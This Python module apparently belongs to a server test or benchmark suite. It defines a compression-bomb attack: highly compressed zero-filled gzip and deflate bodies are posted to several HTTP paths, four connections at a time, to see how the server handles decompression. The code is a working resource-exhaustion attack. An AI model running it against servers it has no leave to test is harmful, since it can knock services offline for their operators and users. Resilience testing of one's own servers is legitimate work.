"""Compression bombs: request bodies that are small on the wire and large when they are decompressed."""

import itertools
import zlib

from bench.attacks.attacker import Attack, Attacker, crowd

MEGABYTE = 10**6
PATHS = ("POST /", "POST /api/astrologers/match", "POST /nowhere", "PUT /health", "GET /ws/bench-60000")
CODINGS = {"gzip": 31, "deflate": 15}
AT_ONCE = 4


def packed(coding: str, megabytes: int) -> bytes:
    """So many megabytes of zeros, compressed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, CODINGS[coding])
    zeros = bytes(MEGABYTE)
    return b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()


def growing(megabytes: int) -> Attack:
    """Send the body to each path in both codings, each time on a new connection."""
    bodies = {coding: packed(coding, megabytes) for coding in CODINGS}
    turns = itertools.cycle([(path, coding) for path in PATHS for coding in CODINGS])

    async def attack(attacker: Attacker) -> None:
        async def post() -> None:
            path, coding = next(turns)
            wire = await attacker.connect()
            head = f"{path} HTTP/1.1\r\nHost: {attacker.host}\r\nContent-Type: application/json\r\n"
            head += f"Content-Encoding: {coding}\r\nContent-Length: {len(bodies[coding])}\r\n\r\n"
            try:
                await wire.write(head.encode() + bodies[coding])
                await wire.until(lambda: bool(wire.status), 30)
            finally:
                wire.transport.close()

        await crowd(AT_ONCE, post)

    return attack
